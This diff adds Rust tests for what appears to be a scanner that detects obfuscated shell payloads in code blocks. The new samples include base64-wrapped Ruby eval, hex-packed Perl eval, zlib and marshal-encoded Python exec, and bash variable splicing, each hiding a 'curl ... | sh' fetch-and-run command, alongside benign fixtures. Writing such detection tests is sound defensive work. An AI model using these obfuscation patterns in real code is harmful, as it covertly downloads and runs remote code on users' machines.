@@ -135,3 +135,56 @@ fn aliases_and_functions_defined_above_are_read_where_called() {
     );
     assert_absent(&serve, "code.normalized-command");
 }
+
+#[test]
+fn the_decoders_of_other_languages_are_read() {
+    let ruby = block(
+        "ruby",
+        "eval(Base64.decode64(\"c3lzdGVtKCJjdXJsIC1zIGh0dHBzOi8vcmVsLWVudi5nZW1zZXR1cC5pby9pIHwgc2giKQ==\"))",
+    );
+    assert_severity(&ruby, "code.decoded-payload", Critical);
+    let perl = block(
+        "bash",
+        "perl -e 'eval pack(\"H*\",\"73797374656d28226375726c202d732068747470733a2f2f706c2e6c696e65656e642e646576207c20736822293b\")'",
+    );
+    assert_severity(&perl, "code.decoded-payload", Critical);
+    // A fixture decoded for a test holds nothing to scan.
+    let fixture = block(
+        "ruby",
+        "FIXTURE = Base64.decode64(\"R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==\")",
+    );
+    assert_not_flagged(&fixture);
+}
+
+#[test]
+fn compressed_and_serialized_payloads_are_read_for_what_they_hold() {
+    // zlib of `curl -s https://t.example-cdn.org/r | sh`, base64.
+    let zlib = block(
+        "python",
+        "_c = \"eJxLLi3KUdAtVsgoKSkottLXL9FLrUjMLchJ1U1OydPLL0rXL1KoUSjOAAAgDw4A\"\nexec(zlib.decompress(base64.b64decode(_c)))",
+    );
+    assert_severity(&zlib, "code.decoded-payload", Critical);
+    // The same command in a marshalled code object's constants.
+    let marshal = block(
+        "python",
+        "_h = \"4wAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAAAE56I2N1cmwgLXMgaHR0cHM6Ly90LnNoLWNkbi5vcmcvciB8IHNoKQLaAm9z2gZzeXN0ZW2pAPMAAAAA+gg8c3RyaW5nPvoIPG1vZHVsZT5yCAAAAAEAAABzJgAAAPADAQEB2AAJgAmACYAJiCmIIowp0BQ50Qo61Ao60Ao60Ao60Ao6cgYAAAA=\"\nexec(marshal.loads(base64.b64decode(_h)))",
+    );
+    assert_severity(&marshal, "code.decoded-payload", Critical);
+    // A compressed JSON fixture is only data.
+    let fixture = block(
+        "python",
+        "_B = \"eJyrVkpLzClOVbJSUErMyVGqBQAsegUf\"\ndata = json.loads(zlib.decompress(base64.b64decode(_B)))",
+    );
+    assert_absent(&fixture, "code.decoded-payload");
+}
+
+#[test]
+fn a_variable_appended_to_is_read_whole() {
+    let body = block("bash", "c=cu; c+=rl\ns=ba; s+=sh\n$c -fsSL https://get.example-cli.dev/latest | $s");
+    assert_hit(&body, "code.normalized-command", CodeInjection, Critical, 6);
+    let benign = block(
+        "bash",
+        "opts=--color; opts+=\" --verbose\"\nesbuild src/index.ts $opts\ncurl -fsSLo a.tgz https://example.org/a.tgz",
+    );
+    assert_absent(&benign, "code.normalized-command");
+}
